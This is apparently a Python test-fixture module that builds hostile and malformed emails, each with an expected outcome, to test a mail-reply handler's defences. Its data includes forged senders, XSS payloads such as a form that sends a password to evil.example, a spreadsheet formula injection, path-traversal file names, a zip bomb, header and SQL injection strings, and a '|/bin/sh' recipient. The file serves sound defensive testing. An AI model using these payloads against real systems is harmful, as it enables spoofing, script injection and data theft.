"""Two hundred letters that nobody honest sends, or that only look so, each with what is to become of it.

They are made from lists of what differs, always the same ones. `{to}`, `{from}` and `{id}` in a template are the
address for replies, its recipient, and a Message-ID of the letter's own.
"""

import base64
import zlib
from collections.abc import Iterator
from typing import Literal

from msgspec import Struct

from firstfix.kit.secrets import new_secret
from tests.factories.letters import DOMAIN, Address
from tests.factories.pictures import picture

Fate = Literal["note", "quarantined", "ignored", "refused"]
QUOTED = "what was asked before"
"""Stands in quoted text only: no note may hold it."""


class HostileMail(Struct, frozen=True, kw_only=True):
    """A letter, and what is to become of it.

    Args:
        name: What it tries.
        raw: All of it.
        recipient: Where it is sent to.
        fate: What becomes of it; `refused`: it is not taken at all.
        says: What the note then says, among other things.
        sender: Its return path.
    """

    name: str
    raw: bytes
    recipient: str
    fate: Fate
    says: str = ""
    sender: str = "somebody@example.org"


class World(Struct, frozen=True, kw_only=True):
    """The addresses that letters are sent to. `others`: those that let nobody in, by why."""

    live: tuple[Address, ...]
    foreign: Address
    others: dict[str, Address]


def hostile_mails(world: World) -> list[HostileMail]:
    """Make all of them; the live addresses are taken in turn."""
    made = []
    for number, (name, head, body, fate, says) in enumerate(_templates()):
        address = world.live[number % len(world.live)]
        made.append(_mail(f"{number} {name}", address, head, body, fate, says=says))
    made += _to_other_addresses(world)
    made += _with_return_paths(world.live[0])
    return made


HONEST = "From: {from}\nTo: {to}\nSubject: Re: Boiler\nMessage-ID: {id}\n"
"""The headers of an honest reply."""
PLAIN = HONEST + "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n"
HTML = HONEST + "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n"
MIXED = HONEST + 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n'

Template = tuple[str, str, str | bytes, Fate, str]


def _templates() -> Iterator[Template]:
    yield from _forged_senders()
    yield from _automatic()
    yield from _structures()
    yield from _headers()
    yield from _charsets()
    yield from _html()
    yield from _texts()
    yield from _files()


def _forged_senders() -> Iterator[Template]:
    rest = "To: {to}\nSubject: Re\nMessage-ID: {id}\n"
    forged = {
        "another address": "From: mallory@evil.example\n",
        "the address as a name": 'From: "{from}" <mallory@evil.example>\n',
        "the address without brackets before another": "From: {from} <mallory@evil.example>\n",
        "two headers": "From: {from}\nFrom: mallory@evil.example\n",
        "two headers, the other way round": "From: mallory@evil.example\nFrom: {from}\n",
        "two addresses": "From: {from}, mallory@evil.example\n",
        "two addresses, the other way round": "From: mallory@evil.example, {from}\n",
        "a group": "From: all: {from};\n",
        "none": "",
        "an empty one": "From: \n",
        "an empty address": "From: <>\n",
        "the address as Sender": "From: mallory@evil.example\nSender: {from}\n",
        "the address to reply to": "From: mallory@evil.example\nReply-To: {from}\n",
        "the address as Resent-From": "From: mallory@evil.example\nResent-From: {from}\n",
        "the address in a comment": "From: mallory@evil.example ({from})\n",
        "a subdomain": "From: {from}.evil.example\n",
        "a letter more": "From: x{from}\n",
        "an encoded address": "From: =?utf-8?q?{from}?=\n",
        "an encoded name with an address": "From: =?utf-8?q?=22{from}=22?= <mallory@evil.example>\n",
        "a letter that looks the same": "From: contract\u043er1@example.com\n",
        "a NUL": "From: {from}\0@evil.example\n",
        "a list of a thousand": "From: " + "a@evil.example,\n " * 1000 + "{from}\n",
        "nested comments": "From: " + "(" * 900 + "{from}\n",
        "a lower-case header and another": "from: {from}\nFROM: mallory@evil.example\n",
    }
    for name, head in forged.items():
        yield f"forged From: {name}", head + rest, "Let me in.", "quarantined", ""
    honest = {
        "with a name": "From: The Fitter <{from}>\n",
        "folded": "From: The\n Fitter\n\t<{from}>\n",
        "with an encoded name": "From: =?utf-8?b?" + base64.b64encode("Jörg".encode()).decode() + "?= <{from}>\n",
        "with a comment": "From: {from} (at work)\n",
        "with blanks": "From:    <{from}>   \n",
    }
    for name, head in honest.items():
        yield f"honest From: {name}", head + rest, "It is me.", "note", "It is me."


def _automatic() -> Iterator[Template]:
    certain = {
        "Auto-Submitted: auto-replied",
        "Auto-Submitted: auto-generated",
        "auto-submitted: AUTO-NOTIFIED; owner=x",
        "Auto-Submitted: something new",
        "Return-Path: <>",
        'Content-Type: multipart/report; report-type=delivery-status; boundary="b"',
        'Content-Type: multipart/report; report-type=disposition-notification; boundary="b"',
    }
    for header in sorted(certain):
        yield f"a program's: {header}", HONEST + header + "\n", "I am away.", "ignored", ""
    signs = {
        "Precedence: bulk",
        "Precedence: list",
        "PRECEDENCE: Junk",
        "Precedence: auto_reply",
        "List-Id: <fitters.example.com>",
        "X-Autoreply: yes",
        "X-Autorespond: yes",
        "X-Auto-Response-Suppress: All",
        "X-Loop: fitters@example.com",
        "Feedback-ID: 1:2:3",
    }
    for header in sorted(signs):
        yield f"perhaps a program's: {header}", HONEST + header + "\n", "Hello all.", "quarantined", ""
    own = "From: {from}\nTo: {to}\nMessage-ID: <01890000-0000-7000-8000-000000000000.1.{number}@" + DOMAIN + ">\n"
    yield "a mail of ours that comes back", own, "Somebody wrote a note.", "ignored", ""
    yield "Auto-Submitted: no is a person's", HONEST + "Auto-Submitted: no\n", "I wrote this.", "note", "I wrote this."
    failed = "Authentication-Results: mx.example.net; spf=pass; dmarc=fail header.from=example.com\n"
    yield "our own server knows it is forged", failed + HONEST, "Let me in.", "quarantined", ""
    foreign = "Authentication-Results: mx.evil.example; dmarc=fail\n"
    yield "another server's results say nothing", foreign + HONEST, "It is me.", "note", "It is me."


def _structures() -> Iterator[Template]:
    text = "Content-Type: text/plain\n\nInside.\n"
    depths: tuple[tuple[int, Fate], ...] = (
        (3, "note"),
        (9, "note"),
        (11, "quarantined"),
        (49, "quarantined"),
        (400, "quarantined"),
    )
    for depth, fate in depths:
        name, nested = f"{depth} containers in each other", _nested_body(depth, text)
        yield (
            name,
            HONEST + 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b0"\n',
            nested,
            fate,
            "Inside.",
        )
    counts: tuple[tuple[int, Fate], ...] = ((40, "note"), (60, "quarantined"), (5_000, "quarantined"))
    for count, fate in counts:
        yield f"{count} parts", MIXED, f"--b\n{text}" * count + "--b--\n", fate, "Inside."
    whole = f"--b\n{text}--b--\n"
    bodies: dict[str, tuple[str, str | bytes, Fate]] = {
        "a container without parts": (MIXED, "Inside.\n", "note"),
        "a container without an end": (MIXED, f"--b\n{text}", "note"),
        "text before and after the parts": (MIXED, f"before\n{whole}after\n", "note"),
        "a container in name only": (HONEST + "Content-Type: multipart/mixed\n", "Inside.\n", "note"),
        "an empty boundary": (HONEST + 'Content-Type: multipart/mixed; boundary=""\n', "Inside.\n", "note"),
        "a boundary of 500 letters": (
            HONEST + f"Content-Type: multipart/mixed; boundary={'b' * 500}\n",
            f"--{'b' * 500}\n{text}--{'b' * 500}--\n",
            "note",
        ),
        "a boundary like a pattern": (
            HONEST + 'Content-Type: multipart/mixed; boundary="(a+)+$"\n', f"--(a+)+$\n{text}--(a+)+$--\n", "note",
        ),
        "the same boundary twice": (
            MIXED, f'--b\nContent-Type: multipart/mixed; boundary="b"\n\n--b\n{text}--b--\n--b--\n', "note",
        ),
        "two types": (PLAIN + "Content-Type: multipart/mixed; boundary=c\n", "Inside.\n", "note"),
        "a type that is none": (HONEST + "Content-Type: ;;;===\n", "Inside.\n", "note"),
        "a letter in a letter": (
            MIXED, f"--b\n{text}--b\nContent-Type: message/rfc822\n\n{HONEST}\nHidden.\n--b--\n", "note",
        ),
        "a hundred letters in each other": (
            HONEST + "Content-Type: message/rfc822\n", "Content-Type: message/rfc822\n\n" * 100 + "x", "quarantined",
        ),
        "a part elsewhere": (
            MIXED,
            f"--b\n{text}--b\nContent-Type: message/external-body; access-type=local-file; name=/etc/passwd\n\n--b--\n",
            "note",
        ),
        "a part of a letter": (HONEST + 'Content-Type: message/partial; id="x"; number=1; total=2\n', "x\n", "note"),
        "a digest": (
            HONEST + "Content-Type: multipart/digest; boundary=b\n", "--b\n\nSubject: x\n\nInside.\n--b--\n", "note",
        ),
        "no body": (PLAIN, "", "quarantined"),
        "blanks only": (PLAIN, " \n\t\n\u00a0\n", "quarantined"),
        "quoted text only": (PLAIN, f"> {QUOTED}\n> {QUOTED}\n> {QUOTED}\n> {QUOTED}\n", "quarantined"),
        "base64 that is none": (PLAIN + "Content-Transfer-Encoding: base64\n", "####~~~~\n", "quarantined"),
        "base64 cut off": (PLAIN + "Content-Transfer-Encoding: base64\n", "SW5zaWRlLg\n", "note"),
        "quoted-printable that is none": (
            PLAIN + "Content-Transfer-Encoding: quoted-printable\n", "Inside.=ZZ=\n", "note",
        ),
        "an encoding that nobody knows": (PLAIN + "Content-Transfer-Encoding: rot13\n", "Inside.\n", "note"),
        "uuencode": (PLAIN + "Content-Transfer-Encoding: x-uuencode\n", "begin 644 x\n'26YS:61E+@``\n`\nend\n", "note"),
    }  # fmt: skip
    for name, (head, body, fate) in bodies.items():
        yield (
            name,
            head,
            body,
            fate,
            "Inside." if fate == "note" and "letter" not in name and "part" not in name else "",
        )


def _nested_body(depth: int, text: str) -> str:
    opened = "".join(f'--b{n}\nContent-Type: multipart/mixed; boundary="b{n + 1}"\n\n' for n in range(depth - 1))
    closed = "".join(f"--b{n}--\n" for n in range(depth - 1, -1, -1))
    return f"{opened}--b{depth - 1}\n{text}{closed}"


def _headers() -> Iterator[Template]:
    heads: dict[str, tuple[str, Fate]] = {
        "a date in words": (PLAIN + "Date: the day before yesterday\n", "note"),
        "a date beyond all time": (PLAIN + "Date: Fri, 99 Foo 99999 99:99:99 +9999\n", "note"),
        "a header put into the subject": (PLAIN + "Subject: =?utf-8?q?x=0D=0ABcc:_evil@evil.example?=\n", "note"),
        "a subject of 200,000 letters": (PLAIN.replace("Re: Boiler", "x " * 100 * 900), "refused"),
        "a subject of 90,000 letters, folded": (PLAIN.replace("Re: Boiler", "x " * 300 + "\n x" * 400), "note"),
        "a subject that writes backwards": (PLAIN.replace("Re: Boiler", "\u202egpj.exe"), "note"),
        "encoded words without end": (PLAIN.replace("Re: Boiler", "=?utf-8?q?" * 50), "note"),
        "encoded words in encoded words": (
            PLAIN.replace("Re: Boiler", "=?utf-8?q?=3D=3Futf-8=3Fq=3Fx=3F=3D?="), "note",
        ),
        "an encoded word of no charset": (PLAIN.replace("Re: Boiler", "=?nonsense?b?####?="), "note"),
        "2,000 headers": (PLAIN + "X-A: b\n" * 2000, "quarantined"),
        "300 KiB of headers": (PLAIN + ("X-A: " + "b" * 900 + "\n") * 340, "quarantined"),
        "a header without a colon": (PLAIN + "nonsense\n", "note"),
        "a header without a name": (PLAIN + ": nonsense\n", "note"),
        "a header with blanks in its name": (PLAIN + "X Y Z : nonsense\n", "note"),
        "8-bit garbage in a header": (PLAIN + "X-A: \u00ff\u00fe\u0080\n", "note"),
        "NULs in a header": (PLAIN + "X-A: a\0b\0c\n", "note"),
        "no Message-ID": (PLAIN.replace("Message-ID: {id}\n", "X-Number: {number}\n"), "note"),
        "an empty Message-ID": (PLAIN.replace("{id}", "\nX-Number: {number}"), "note"),
        "a Message-ID in two lines": (PLAIN.replace("{id}", "\n {id}"), "note"),
        "two of each": (PLAIN + "To: {to}\nSubject: again\nMessage-ID: <again@evil.example>\n", "note"),
        "many addressees": (PLAIN + "Cc: " + "a@example.org,\n " * 2000 + "b@example.org\n", "quarantined"),
        "somebody in CC": (PLAIN + "Cc: mallory@evil.example\nBcc: mallory@evil.example\n", "note"),
        "an unfinished quotation in the type": (
            HONEST + 'Content-Type: text/plain; charset="utf-8; name="' + '"\\' * 400 + "\n", "note",
        ),
        "the type's parameters in a thousand pieces": (
            HONEST + "Content-Type: text/plain;" + "".join(f" x*{n}=b;\n" for n in range(400)), "note",
        ),
    }  # fmt: skip
    for name, (head, fate) in heads.items():
        yield name, head, "Inside.", fate, "Inside." if fate == "note" and "type" not in name else ""


def _charsets() -> Iterator[Template]:
    known = ("utf-8", "UTF8", "iso-8859-1", "windows-1252", "koi8-r", "us-ascii", "utf-16", "gb18030", "iso-2022-jp")
    for charset in known:
        raw = "Inside.".encode(charset)
        head = HONEST + f"Content-Type: text/plain; charset={charset}\nContent-Transfer-Encoding: base64\n"
        yield f"charset {charset}", head, base64.b64encode(raw), "note", "Inside."
    tricks = (
        *(
            "idna",
            "punycode",
            "unicode_escape",
            "raw_unicode_escape",
            "undefined",
            "mbcs",
            "zlib",
            "bz2",
            "hex",
            "rot13",
        ),
        *(
            "base64",
            "uu",
            "../../../../etc/passwd",
            "utf-8\0",
            "x" * 500,
            "os.system",
            "utf-7",
            "none",
            "=?utf-8?q?x?=",
        ),
    )
    for charset in tricks:
        yield (
            f"charset {charset[:20]}",
            HONEST + f'Content-Type: text/plain; charset="{charset}"\n',
            "Inside.",
            "note",
            "",
        )
    bodies = {
        "8-bit without a charset": b"Inside. \xff\xfe\x80",
        "overlong UTF-8": b"Inside. \xc0\xaf\xe0\x80\xaf",
        "halves of surrogate pairs": b"Inside. \xed\xa0\x80\xed\xbf\xbf",
        "NULs": b"Ins\0ide.\0",
        "control characters": b"Inside.\x01\x02\x1b[31m\x07\x7f\x08\x08",
        "writing backwards": "Inside.\u202e\u2066\u200b\ufeff".encode(),
        "line ends of all kinds": "Inside.\r\nx\x0bx\x0cx\u2028x\u2029x\x85".encode(),
        "a thousand accents on one letter": ("Inside. e" + "\u0301" * 400).encode(),
    }
    for name, body in bodies.items():
        yield name, PLAIN, body, "note", "Inside."


def _html() -> Iterator[Template]:
    for payload in XSS:
        yield f"HTML {payload[:30]}", HTML, f"<p>Inside.</p>{payload}<p>End.</p>", "note", ""
    quotes = {
        "gmail": f'Inside.<div class="gmail_quote">On x wrote:<blockquote>{QUOTED}</blockquote></div>',
        "blockquote": f"Inside.<blockquote><p>{QUOTED}</p><p>{QUOTED}</p><p>{QUOTED}</p></blockquote>",
        "Outlook": "<div>Inside.</div><div id='divRplyFwdMsg'><b>From:</b> Ann &lt;a@b.c&gt;<br><b>Sent:</b> Monday<br>"
        f"<b>To:</b> Bob<br><b>Subject:</b> Boiler<br></div><div>{QUOTED}</div>",
    }
    for name, body in quotes.items():
        yield f"HTML with quoted text: {name}", HTML, f"<html><body>{body}</body></html>", "note", "Inside."
    long = {
        "open elements without end": "<div>" * 20_000,
        "comments without end": "<!--" * 20_000,
        "open brackets": "<" * 60_000,
        "entities": "&" * 60_000,
        "an attribute without end": '<a b="' * 10_000,
    }
    for name, body in long.items():
        lines = "\n".join(body[start : start + 900] for start in range(0, len(body), 900))
        yield f"HTML of {name}", HTML, f"<p>Inside.</p>\n{lines}", "note", "Inside."


def _texts() -> Iterator[Template]:
    quoted = f"> {QUOTED}\n> {QUOTED}\n> {QUOTED}\n"
    texts = {
        "script as text": "Inside. <script>alert(1)</script>",
        "entities as text": "Inside. &lt;img src=x onerror=alert(1)&gt;",
        "quoted text below": f"Inside.\n\nOn Mon, 2 Nov 2026 at 10:00, Ann <a@b.c> wrote:\n{quoted}",
        "quoted text above": f"On Mon, 2 Nov 2026 at 10:00, Ann <a@b.c> wrote:\n{quoted}\nInside.",
        "quoted text in German": f"Inside.\n\nAm 02.11.2026 um 10:00 schrieb Ann <a@b.c>:\n{quoted}",
        "quoted text of Outlook": f"Inside.\n\n-----Original Message-----\nFrom: Ann\nSent: Monday\n\n{QUOTED}",
        "a signature": f"Inside.\n\n-- \n{QUOTED}",
        "a telephone's signature": f"Inside.\n\nSent from my iPhone\n{QUOTED}",
        "introductions without end": "Inside.\n" + "On " * 300 + "\n",
        "headers without end": "Inside.\n\n" + "From: x\n" * 3000,
        "quotation marks without end": "Inside.\n" + (">" * 900 + "\n") * 100,
        "100,000 empty lines": "Inside.\n" + "\n" * 100_000,
        "a formula": "=cmd|' /C calc'!A1 Inside.",
        "a template": "Inside. {{7*7}} ${7*7} <%= 7*7 %> {0.__class__}",
    }
    for name, text in texts.items():
        yield name, PLAIN, text, "note", "Inside."
    yield "a line of 2,000 letters", PLAIN, "x" * 2000, "refused", ""
    yield "a line of 3 MiB", PLAIN, "x" * (3 << 20), "refused", ""


def _files() -> Iterator[Template]:
    bomb = zlib.compress(b"\0" * (20 << 20))
    flood = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\xff\xff\0\0\xff\xff\x08\2\0\0\0" + b"\0" * 40
    files: dict[str, tuple[str, bytes]] = {
        "a program": ("setup.exe", b"MZ\x90"),
        "a page": ("page.html", b"<script>alert(1)</script>"),
        "a drawing": ("logo.svg", b"<svg onload=alert(1)>"),
        "a script": ("run.js", b"alert(1)"),
        "an archive": ("all.zip", b"PK\x03\x04" + bomb),
        "a bomb": ("bomb.docx", bomb),
        "Outlook's own": ("winmail.dat", b"\x78\x9f\x3e\x22"),
        "a letter": ("letter.eml", b"From: x\n\nx"),
        "a macro": ("sheet.xlsm", b"PK\x03\x04"),
        "a page as a picture": ("photo.jpg", b"<html><script>alert(1)</script>"),
        "a picture as a page": ("photo.html", b"\xff\xd8\xff\xe0"),
        "two extensions": ("photo.jpg.exe", b"MZ\x90"),
        "a playlist as a film": ("film.mp4", b"#EXTM3U\nfile:///etc/passwd\n"),
        "a picture of 65,535 pixels squared": ("flood.png", flood),
        "a picture cut off": ("cut.jpg", picture()[:100]),
        "a document that is none": ("paper.pdf", b"%PDF-1.7\n<script>"),
        "a path": ("../../../../etc/cron.d/x", b"x"),
        "a path of Windows": ("C:\\\\Windows\\\\system32\\\\x.dll", b"x"),
        "a device": ("CON", b"x"),
        "no name": ("", b"x"),
        "a name of 4 KB": ("x" * 700 + ".exe", b"x"),
        "a name that writes backwards": ("\u202egpj.exe", b"x"),
        "a name with markup": ("<img src=x onerror=alert(1)>.jpg", b"x"),
        "an invitation": ("invite.ics", b"BEGIN:VCALENDAR"),
        "a signature": ("smime.p7s", b"0\x82"),
    }
    for name, (file_name, content) in files.items():
        part = f"--b\n{_FILE.format(name=file_name.replace(chr(34), ''))}{base64.encodebytes(content).decode()}"
        yield f"a file: {name}", MIXED, f"--b\n\nInside.\n{part}--b--\n", "note", "Inside."
    good = f"--b\n{_FILE.format(name='photo.jpg')}{base64.encodebytes(picture()).decode()}"
    yield "a picture and nothing else", MIXED, f"{good}--b--\n", "note", ""
    many = "".join(f"--b\n{_FILE.format(name=f'{n}.exe')}TVo=\n" for n in range(30))
    yield "thirty programs", MIXED, f"--b\n\nInside.\n{many}--b--\n", "note", "Inside."
    pieces = "".join(f" filename*{n}={c};" for n, c in enumerate("x.exe"))
    yield (
        "a name in pieces",
        MIXED,
        f"--b\n\nInside.\n--b\nContent-Disposition: attachment;{pieces}\n\nx\n--b--\n",
        "note",
        "x.exe",
    )


_FILE = (
    'Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="{name}"\n'
    "Content-Transfer-Encoding: base64\n\n"
)

XSS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<details open ontoggle=alert(1)>x</details>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
)


def _to_other_addresses(world: World) -> Iterator[HostileMail]:
    live = world.live[0]
    for number, (why, address) in enumerate(world.others.items()):
        yield _mail(f"an address that is {why} {number}", address, PLAIN, "Let me in.", "quarantined")
    yield _mail("another organisation's address", world.foreign, PLAIN, "Let me in.", "quarantined", sender_of=live)
    guesses = {
        "guessed": new_secret(16),
        "one digit less": live.token[:-1],
        "one digit more": live.token + "0",
        "no token": "",
        "a tag after it": live.token + "+x",
        "no hexadecimal": "z" * 32,
        "SQL": "'or'1'='1",
        "dots": "a..b",
        "a percent sign": live.token + "%evil",
    }
    for name, token in guesses.items():
        yield _mail(f"a token: {name}", live, PLAIN, "Let me in.", "quarantined", recipient=f"reply+{token}@{DOMAIN}")
    upper = f"REPLY+{live.token.upper()}@{DOMAIN.upper()}"
    yield _mail("an address in capitals", live, PLAIN, "It is me.", "note", recipient=upper, says="It is me.")
    strangers = (
        *(f"reply@{DOMAIN}", f"postmaster@{DOMAIN}", f"root@{DOMAIN}", f"x+{live.token}@{DOMAIN}", f"@{DOMAIN}"),
        *("mallory@evil.example", f"reply+{live.token}@evil.example", f"reply+{live.token}@{DOMAIN}.evil.example"),
        *(f"@{DOMAIN}:mallory@evil.example", f"reply+{live.token}%evil.example@other.example", "reply+x@", "|/bin/sh"),
    )
    for stranger in strangers:
        yield _mail(f"for {stranger}", live, PLAIN, "Relay this.", "refused", recipient=stranger)


def _with_return_paths(live: Address) -> Iterator[HostileMail]:
    yield _mail("an empty return path", live, PLAIN, "I am away.", "ignored", return_path="")
    report = (
        'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\n',
        "--b\n\nIt failed.\n--b\nContent-Type: message/delivery-status\n\nReporting-MTA: x\n\nStatus: 5.1.1\n--b--\n",
    )
    bounces = f"bounce+{new_secret(16)}@{DOMAIN}"
    yield _mail("a failure of no mail of ours", live, HONEST + report[0], report[1], "ignored", recipient=bounces)
    yield _mail("a letter to where failures go", live, PLAIN, "Hello?", "ignored", recipient=bounces, number=1)
    yield _mail(
        "where no failure goes", live, PLAIN, "Hello?", "ignored", recipient=f"bounce+x@{DOMAIN}", return_path=""
    )


def _mail(
    name: str,
    address: Address,
    head: str,
    body: str | bytes,
    fate: Fate,
    *,
    says: str = "",
    recipient: str | None = None,
    return_path: str = "somebody@example.org",
    sender_of: Address | None = None,
    number: int = 0,
) -> HostileMail:
    mark = f"{zlib.crc32(name.encode()):08x}{number}"
    filled = head
    values = {"to": address.reply_to, "from": (sender_of or address).email, "id": f"<{mark}@phone.example.org>"}
    for word, value in (values | {"number": str(int(mark, 16))}).items():
        filled = filled.replace(f"{{{word}}}", value)
    content = body if isinstance(body, bytes) else body.encode(errors="surrogatepass")
    raw = filled.encode(errors="surrogatepass") + b"\n" + content
    return HostileMail(
        name=name,
        raw=(raw.rstrip(b"\n") + b"\n").replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"),
        recipient=recipient or address.reply_to,
        fate=fate,
        says=says,
        sender=return_path,
    )
